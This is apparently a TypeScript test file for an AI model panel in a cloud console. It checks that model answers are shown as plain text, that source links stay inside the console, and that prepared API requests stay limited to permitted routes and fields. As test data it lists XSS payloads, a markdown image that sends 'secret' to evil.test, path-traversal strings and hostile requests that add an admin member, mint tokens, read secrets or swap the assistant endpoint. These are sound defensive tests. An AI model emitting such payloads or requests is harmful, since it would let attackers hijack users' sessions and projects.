import t from 'tap';
import { blocksOf, type Block } from '../../functions/console/ui/assistant/answer-text.ts';
import { isForm, readPrepared, requestOf } from '../../functions/console/ui/assistant/prepared-request.ts';
import { offerIn } from '../../functions/console/ui/assistant/offer.ts';
import { pathOfDeployment, pathOfSource, sourcesOf } from '../../functions/console/ui/assistant/source-path.ts';
import { pathOf } from '../../functions/console/ui/api/client.ts';
import { createBody, newDraft } from '../../functions/console/ui/functions/draft.ts';
import { places, type FindPath } from '../../functions/console/ui/shell/places.ts';
import { isSuperLinear } from '../support/growth.ts';

/*
 * The panel of the assistant trusts neither the model nor the API's cleaning of its answers: what it gets is shown as text,
 * leads to pages of the console only, and nothing is sent but what it shows. tests/e2e/local/console-assistant.test.ts
 * shows the same answers in a browser.
 */

/** As the router finds paths, with every page. */
const find: FindPath = (name, params = {}) => {
  const parts = places[name]
    .split('/')
    .map((part) => (part.startsWith('$') ? encodeURIComponent(params[part.slice(1)] ?? '') : part));
  return parts.join('/');
};

const tricks = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '![x](https://evil.test/?q=secret)',
  '[click](javascript:alert(1))',
  '[click](//evil.test/projects/shop)',
  '[Open app api](https://console.evil.test/projects/shop/environments/prod/apps/api)',
  '[a][b]\n\n[b]: https://evil.test',
  '<https://evil.test>',
  'https://evil.test/x and www.evil.test',
  '> ```\n> <img src=x>\n',
  '# <svg onload=alert(1)>',
  '- [ ] <iframe src=//evil.test>',
  '1. ![x](data:text/html,<script>alert(1)</script>)',
  '| <b>x</b> | [y](javascript:1) |',
  '`` ` <img> ` ``',
  '**<b>x</b>** __y__ ~~z~~ &lt;img&gt; &#60;script&#62;',
  '\\<img src=x>',
  '[^1]\n\n[^1]: <img src=x>',
];

/** All that is shown of a block, as text. */
function textsOf(block: Block): string[] {
  if (block.kind === 'code') return [block.text];
  const lines = block.kind === 'list' ? block.items.flat() : block.lines;
  return lines.flat().map(({ text }) => text);
}

t.test('the panel knows forms of text only, whatever an answer has', (t) => {
  const spans = new Set<string>();
  for (const trick of tricks) {
    for (const answer of [trick, `Text ${trick}`, `- ${trick}`, `\`\`\`html\n${trick}\n\`\`\``, trick.repeat(20)]) {
      for (const block of blocksOf(answer)) {
        t.ok(['code', 'heading', 'paragraph', 'table', 'list'].includes(block.kind), block.kind);
        if (block.kind === 'code') continue;
        const lines = block.kind === 'list' ? block.items.flat() : block.lines;
        // A part has a text and how it is emphasized, and nothing that could be an address.
        for (const span of lines.flat()) {
          t.same(Object.keys(span).toSorted(), ['kind', 'text']);
          spans.add(span.kind);
        }
      }
    }
    const shown = blocksOf(`x ${trick}`).flatMap(textsOf).join('');
    const letters = (text: string) => text.replaceAll(/[^A-Za-z]/g, '');
    t.equal(letters(shown), letters(`x ${trick}`), 'all of it is shown as it was written');
  }
  t.same([...spans].toSorted(), ['code', 'strong', 'text']);
  t.end();
});

t.test('an endless answer and a huge block of code are read in linear time', (t) => {
  // Lines that make few objects: their collection would take more time than reading them.
  for (const unit of ['word ', '`', '~', '1. ', '# ', ' ', '0', '|', '0 * * * ']) {
    for (const end of ['', '`', 'x']) {
      t.notOk(
        isSuperLinear(
          (size) => unit.repeat(size) + end,
          (text) => offerIn(blocksOf(text)),
        ),
        unit + end,
      );
    }
  }
  t.equal(blocksOf('- a\n\n```\nb\n```\n'.repeat(50_000)).length, 100_000);
  const [block] = blocksOf(`\`\`\`js\n${'handler();\n'.repeat(200_000)}`);
  t.equal(block?.kind === 'code' && block.text.length, 'handler();\n'.length * 200_000, 'without its end, too');
  t.end();
});

t.test('what an answer rests on leads to the console, whatever its names are', (t) => {
  const names = [
    '//evil.test',
    'javascript:alert(1)',
    'https://evil.test',
    '..',
    '../..',
    '%2e%2e',
    '\\evil.test',
    '?x#y',
  ];
  const kinds = ['app', 'function', 'job', 'service', 'logs', 'events', 'key', 'project'] as const;
  for (const name of names) {
    for (const kind of kinds) {
      for (const place of [
        { name, project: 'shop', environment: 'prod' },
        { name: 'api', project: name, environment: 'prod' },
        { name: 'api', project: 'shop', environment: name },
      ]) {
        const target = pathOfSource(find, { kind, of: 'app', ...place }, ['prod']);
        checkPath(target?.path);
      }
    }
    checkPath(pathOfDeployment(find, { project: 'shop', environment: 'prod', app: name, revision: 1 })?.path);
  }
  const answer = 'At 2026-11-26T10:00:00Z'.repeat(10_000);
  const source = { kind: 'logs' as const, name: 'api', of: 'app', project: 'shop' };
  t.ok(sourcesOf({ answer, sources: Array.from({ length: 1_000 }, () => source) }).length < 10, 'each once');
  t.end();

  function checkPath(path: string | undefined): void {
    if (path === undefined) return;
    // A name cannot leave its segment, begin another address, or become another protocol.
    t.match(path, /^\/projects\/[^/]/, path);
    t.equal(new URL(path, 'https://console.test').origin, 'https://console.test');
    t.notMatch(path, /javascript:|[\\?#]/);
  }
});

t.test('a prepared request is sent only as the panel shows it, to a route of the tools in its project', (t) => {
  const shop = '/api/v1/projects/shop';
  const hostile: [string, string, Record<string, unknown>?][] = [
    ['PATCH', '/api/v1/projects/blog/apps/api', { replicas: 0 }],
    ['POST', '/api/v1/projects/blog/functions', { name: 'f', runtime: 'node', code: 'x', trigger: 'http' }],
    ['PATCH', '/api/v1/projects/SHOP/apps/api', { replicas: 0 }],
    ['DELETE', `${shop}/apps/api`],
    ['DELETE', shop],
    ['PUT', `${shop}/members/evil@evil.test`, { role: 'admin' }],
    ['POST', `${shop}/tokens`, { name: 'x', scopes: ['write'] }],
    ['POST', '/api/v1/users', { email: 'evil@evil.test' }],
    ['PUT', '/api/v1/platform/assistant', { url: 'https://evil.test', model: 'x' }],
    ['GET', `${shop}/apps/api/secrets/PASSWORD`],
    ['POST', `${shop}/apps/api/exec`],
    ['POST', `${shop}/functions/f/invoke`, {}],
    ['POST', `//evil.test${shop}/apps/api/restart`],
    ['POST', `https://evil.test${shop}/apps/api/restart`],
    ['POST', `javascript:${shop}/apps/api/restart`],
    ['POST', `${shop}/apps/../../blog/apps/api/restart`],
    ['POST', `${shop}/apps/%2e%2e/restart`],
    ['POST', `${shop}/apps/api/restart#x`],
    ['POST', `${shop}/apps/api/restart?environment=prod&project=blog`],
    ['post', `${shop}/apps/api/restart`],
    ['PATCH', `${shop}/apps/api`, { image: 'evil', env: { A: 'b' } }],
    ['PATCH', `${shop}/apps/api`, { image: 'shop/api:1\u202e' }],
    ['PATCH', `${shop}/apps/api/env`, { 'A\u200b': 'b' }],
    ['POST', `${shop}/functions/f/dead-letters/redrive`, { ids: ['1\u0007'] }],
    ['POST', `${shop}/apps/api%0D/restart`],
    ['PATCH', `${shop}/apps/api`, { image: 'evil', releaseCommand: ['sh'] }],
    ['PATCH', `${shop}/apps/api`, JSON.parse('{"replicas":1,"__proto__":{"x":1}}') as Record<string, unknown>],
  ];
  for (const [method, path, body] of hostile) {
    const ready = readPrepared({ method, path, ...(body && { body }) }, 'shop');
    t.equal(ready, undefined, `${method} ${path}`);
  }
  const sent = readPrepared({ method: 'POST', path: `${shop}/apps/a%2F..%2Fb/restart?environment=%2F..` }, 'shop');
  if (!sent || isForm(sent.operation)) throw new Error('a name with slashes is a name');
  const request = requestOf({ environment: sent.environment, operation: sent.operation });
  t.equal(pathOf('projects', 'shop', ...request.path), '/projects/shop/apps/a%2F..%2Fb/restart', 'one segment');
  t.end();
});

t.test('a form is opened only with what it shows', (t) => {
  const path = '/api/v1/projects/shop/functions';
  const body = { name: 'f', runtime: 'node', code: 'x', trigger: 'http' };
  const read = (more: Record<string, unknown>) =>
    readPrepared({ method: 'POST', path, body: { ...body, ...more } }, 'shop');
  const opened = read({ env: { A: '1' } })?.operation;
  t.ok(opened && isForm(opened));
  if (opened && isForm(opened)) t.same(createBody({ ...newDraft, ...opened.values }), { ...body, env: { A: '1' } });
  const hidden: Record<string, unknown>[] = [
    { secrets: { PASSWORD: 'x' } },
    { bindings: [{ service: 'orders' }] },
    { volumes: [{ name: 'v', path: '/x' }] },
    { hostname: 'evil.test' },
    { security: { headers: false } },
    { image: 'evil/image' },
    { events: { type: 'redis', source: 'cache', list: 'jobs' } },
    { events: { source: 'cache', database: 'others' } },
    { schedule: '* * * * *' },
    { dependencies: 'lodash@1.0.0' },
    { dependencies: ['a@1.0.0 b@1.0.0'] },
    { dependencies: [{ toString: 'x' }] },
    { env: { A: 1 } },
    { env: { 'A B': 'x' } },
    { env: { A: `'"\`` } },
    { env: { A: '1', B: '\u0000\n' } },
    { env: [] },
    { code: { toString: 'x' } },
    { runtime: 'cobol' },
    { trigger: 'constructor' },
    { name: '' },
  ];
  for (const more of hidden) t.equal(read(more), undefined, JSON.stringify(more));
  const change = (more: object) =>
    readPrepared({ method: 'PATCH', path: `${path}/f`, body: { code: 'x', ...more } }, 'shop');
  t.ok(change({}));
  for (const more of [{ env: {} }, { image: 'evil' }, { minReplicas: 5 }, { dependencies: ['a b'] }, { code: '' }]) {
    t.equal(change(more), undefined, JSON.stringify(more));
  }
  t.end();
});
